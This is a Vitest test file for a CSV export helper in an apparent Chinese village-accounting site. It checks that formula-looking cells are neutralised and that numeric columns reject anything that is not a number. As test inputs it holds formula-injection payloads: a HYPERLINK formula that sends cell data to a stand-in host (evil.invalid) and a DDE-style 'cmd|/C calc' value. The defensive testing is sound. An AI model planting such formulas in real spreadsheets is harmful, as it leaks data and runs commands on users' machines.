import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { looksLikeFormula, toCsv, type CsvColumn } from './spreadsheet.ts';

interface Line {
  summary: string;
  amountYuan: string;
  amountFen: number;
}

const COLUMNS: CsvColumn<Line>[] = [
  { header: '摘要', value: (line) => line.summary },
  { header: '金额（元）', value: (line) => line.amountYuan, numeric: true },
  { header: '金额（分）', value: (line) => line.amountFen, numeric: true },
];

/** The cells as a spreadsheet program receives them (after CSV unquoting). */
function cells(csv: string): string[][] {
  return parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true });
}

describe('toCsv', () => {
  it.each([
    ['=HYPERLINK("http://evil.invalid/?d="&A1,"点击查看")'],
    ['+1'],
    ['-1+2'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['＝1+1'],
    ['＠SUM(A1)'],
  ])('writes the text cell %j with a leading quote, so that it stays text', (summary) => {
    const [, row] = cells(toCsv([{ summary, amountYuan: '12.50', amountFen: 1250 }], COLUMNS));
    expect(row![0]).toBe(`'${summary}`);
  });

  it('keeps ordinary text, numbers and negative amounts in numeric columns as they are', () => {
    const csv = toCsv(
      [
        { summary: '收取2026年度东片耕地承包费（40亩）', amountYuan: '12000.00', amountFen: 1_200_000 },
        { summary: '更正：冲回重复入账的水泥款', amountYuan: '-12.50', amountFen: -1250 },
      ],
      COLUMNS,
    );
    expect(cells(csv)).toEqual([
      ['摘要', '金额（元）', '金额（分）'],
      ['收取2026年度东片耕地承包费（40亩）', '12000.00', '1200000'],
      ['更正：冲回重复入账的水泥款', '-12.50', '-1250'],
    ]);
  });

  it('writes UTF-8 with a BOM, CRLF line ends and quotes where CSV needs them', () => {
    const csv = toCsv([{ summary: '水泥、砂石,及"人工"费', amountYuan: '8650.00', amountFen: 865_000 }], COLUMNS);
    expect(csv).toBe('\uFEFF摘要,金额（元）,金额（分）\r\n"水泥、砂石,及""人工""费",8650.00,865000\r\n');
  });

  it('refuses anything but a number in a numeric column, so that no formula rides in one', () => {
    expect(() => toCsv([{ summary: '', amountYuan: '-2+3+cmd|/C calc', amountFen: 1 }], COLUMNS)).toThrow(TypeError);
    expect(() => toCsv([{ summary: '', amountYuan: '1', amountFen: Number.NaN }], COLUMNS)).toThrow(TypeError);
  });

  it('leaves empty cells empty', () => {
    const columns: CsvColumn<{ voucher: string | null }>[] = [{ header: '凭证号', value: (row) => row.voucher }];
    expect(cells(toCsv([{ voucher: null }, { voucher: '记-2026-07-001' }], columns))).toEqual([['凭证号'], [''], ['记-2026-07-001']]);
  });
});

describe('looksLikeFormula', () => {
  it('recognises what a spreadsheet would evaluate', () => {
    for (const text of ['=1+1', '+86 138', '-5', '@A1', '\t=1', '\r=1', '＝1']) expect(looksLikeFormula(text)).toBe(true);
    for (const text of ['1+1', '记-001', '张三', '', ' =1']) expect(looksLikeFormula(text)).toBe(false);
  });
});

describe('one CSV writer', () => {
  it('is the only module that uses csv-stringify, so no CSV leaves the site without neutralisation', () => {
    const root = path.resolve(import.meta.dirname, '../..');
    const users = readdirSync(root, { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.(ts|astro)$/.test(file) && !file.endsWith('.test.ts'))
      .filter((file) => readFileSync(path.join(root, file), 'utf8').includes("from 'csv-stringify"));
    expect(users).toEqual([path.join('lib', 'server', 'spreadsheet.ts')]);
  });
});
